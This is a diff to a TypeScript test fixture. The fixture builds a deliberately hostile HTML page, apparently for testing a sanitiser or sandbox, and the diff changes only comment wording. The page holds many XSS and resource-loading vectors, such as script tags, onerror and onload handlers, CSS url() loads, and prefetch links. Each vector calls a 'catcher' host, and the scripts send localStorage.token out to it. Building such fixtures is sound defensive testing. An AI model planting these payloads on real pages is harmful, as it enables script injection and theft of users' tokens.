@@ -1,16 +1,16 @@
 /**
- * A page that tries everything it can to run, to send and to lead away. Every attempt has a name and calls at
- * `<catcher>/<name>`; scripts note that they ran and take the token of whatever origin they run in.
+ * Returns a page that tries every way to run, send and navigate. Every attempt has a name and requests `<catcher>/<name>`;
+ * scripts record that they ran and take the token of the origin they run in.
  */
 export function hostilePage(catcher: string): string {
   const js = (name: string): string =>
     `try{(top.ran=top.ran||[]).push('${name}')}catch(e){}(window.ran=window.ran||[]).push('${name}');` +
     `try{new Image().src='${catcher}/js-${name}?'+localStorage.token}catch(e){new Image().src='${catcher}/js-${name}'}`;
-  /** For an attribute without quotes: inside another attribute, quotes would end that. */
+  /** For unquoted attributes: within another attribute, quotes would end that. */
   const bare = (name: string): string => js(name).replaceAll(" ", "/**/");
   const to = (name: string): string => `${catcher}/${name}`;
   const parts = [
-    // Scripts, in every place that takes one.
+    // Scripts, in every possible place.
     `<script>${js("script")}</script><script src="${to("script-src")}"></script>`,
     `<script type="module">${js("module")}</script>`,
     `<img src="data:,x" onerror="${js("img-error")}"><svg onload="${js("svg-load")}"><script>${js("svg-script")}</script></svg>`,
@@ -44,7 +44,7 @@ export function hostilePage(catcher: string): string {
     `@font-face{font-family:x;src:url(${to("css-font")})} body{font-family:x}`,
     `@media all{div{border-image:url('${to("css-border")}') 1}}</style>`,
     `<p style="background:url(${to("style-attribute")})">p<i>i</i></p><input value="49">`,
-    // Everything else that loads, sends or leads away by itself.
+    // Everything else that loads, sends or navigates by itself.
     `<img src="${to("img")}" srcset="${to("img-set")} 1x"><picture><source srcset="${to("source")}"><img src="${to("picture")}"></picture>`,
     `<link rel="stylesheet" href="${to("link-css")}"><link rel="preload" as="image" href="${to("preload")}">`,
     `<link rel="prefetch" href="${to("prefetch")}"><link rel="icon" href="${to("icon")}"><link rel="manifest" href="${to("manifest")}">`,
@@ -62,5 +62,5 @@ export function hostilePage(catcher: string): string {
     <body onload="${js("body-load")}" background="${to("body")}"><h1>Kettle</h1><p id="price">$49.00</p>${parts.join("\n")}</body></html>`;
 }
 
-/** Elements of the page that do something when they are clicked. */
+/** Elements of the page that react to clicks. */
 export const CLICKABLE = ["js-link", "js-spaced", "svg-link", "js-submit", "link", "blank", "top", "submit"];
